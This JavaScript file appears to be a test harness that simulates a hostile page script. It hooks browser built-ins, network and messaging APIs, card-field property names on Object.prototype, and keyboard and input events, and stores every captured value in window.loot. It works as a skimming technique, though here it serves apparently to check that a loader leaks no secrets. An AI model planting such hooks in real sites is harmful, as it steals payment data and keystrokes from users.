// What a hostile script does before the loader is there: it takes the place of whatever a page's
// code might pass a secret through, and keeps all it sees in `window.loot`.
(() => {
  'use strict';
  const { apply, getOwnPropertyDescriptor, defineProperty, ownKeys } = Reflect;
  const push = Array.prototype.push;
  const { stringify } = JSON;
  const text = String;
  const loot = (window.loot = []);
  window.keystrokes = [];
  let busy = false;

  const slice = String.prototype.slice;
  /** Long enough for any secret, and short enough to be kept of every call. */
  const LONGEST = 2048;
  const plain = (value) => {
    try {
      const whole = typeof value === 'object' && value !== null ? stringify(value) : text(value);
      return apply(slice, text(whole), [0, LONGEST]);
    } catch {
      return '?';
    }
  };
  /** Keeps what passes; what the keeping itself calls is not kept. */
  const keep = (from, values, besides) => {
    if (busy || besides === loot) return;
    busy = true;
    try {
      let line = `${from} ${plain(besides)}`;
      for (let at = 0; at < values.length; at += 1) line += ` ${plain(values[at])}`;
      apply(push, loot, [line]);
    } finally {
      busy = false;
    }
  };
  window.keepLoot = (value) => keep('planted', [value]);

  const wrap = (owner, name, label) => {
    const found = getOwnPropertyDescriptor(owner, name);
    if (!found || typeof found.value !== 'function') return;
    const native = found.value;
    defineProperty(owner, name, {
      ...found,
      value: new Proxy(native, {
        apply(target, self, args) {
          // No spread here: it would call what is wrapped.
          keep(label, args, self);
          const result = apply(target, self, args);
          keep(label, args, result);
          return result;
        },
      }),
    });
  };
  const wrapAll = (owner, label, except = []) => {
    for (const name of ownKeys(owner)) {
      if (name !== 'constructor' && !except.includes(name)) wrap(owner, name, `${label}.${text(name)}`);
    }
  };

  wrapAll(JSON, 'JSON');
  wrapAll(Object, 'Object');
  wrapAll(Array.prototype, 'Array');
  wrapAll(String.prototype, 'String');
  wrapAll(RegExp.prototype, 'RegExp');
  wrapAll(Map.prototype, 'Map');
  wrapAll(Promise.prototype, 'Promise');
  wrapAll(Promise, 'Promise');
  wrapAll(Storage.prototype, 'Storage');
  wrapAll(Headers.prototype, 'Headers');
  wrapAll(XMLHttpRequest.prototype, 'XMLHttpRequest');
  wrapAll(MessagePort.prototype, 'MessagePort');
  for (const name of ['fetch', 'postMessage', 'atob', 'btoa', 'structuredClone', 'encodeURIComponent']) {
    wrap(window, name, name);
  }
  wrap(Navigator.prototype, 'sendBeacon', 'sendBeacon');

  // Every message of every port, whoever set the listener.
  const NativeChannel = window.MessageChannel;
  window.MessageChannel = new Proxy(NativeChannel, {
    construct(target, args) {
      const channel = Reflect.construct(target, args);
      window.stolenPort = channel.port1;
      for (const port of [channel.port1, channel.port2]) {
        EventTarget.prototype.addEventListener.call(port, 'message', ({ data }) => keep('message', [data]));
      }
      return channel;
    },
  });
  addEventListener('message', ({ data }) => keep('window message', [data]), true);

  // Values that are set under the names a careless script would use.
  for (const name of ['number', 'expiry', 'cvc', 'holder', 'card', 'cardNo', 'cardSecurityCode', 'data']) {
    defineProperty(Object.prototype, name, {
      configurable: true,
      get() { return undefined; },
      set(value) {
        keep(`Object.prototype.${name}`, [value]);
        defineProperty(this, name, { value, writable: true, enumerable: true, configurable: true });
      },
    });
  }

  // What a page hears of keys that are pressed somewhere.
  for (const name of ['keydown', 'keyup', 'keypress', 'beforeinput', 'input', 'paste', 'copy', 'cut', 'selectionchange']) {
    addEventListener(name, (event) => apply(push, window.keystrokes, [[name, event.key ?? event.data ?? '', event.timeStamp]]), true);
  }
})();
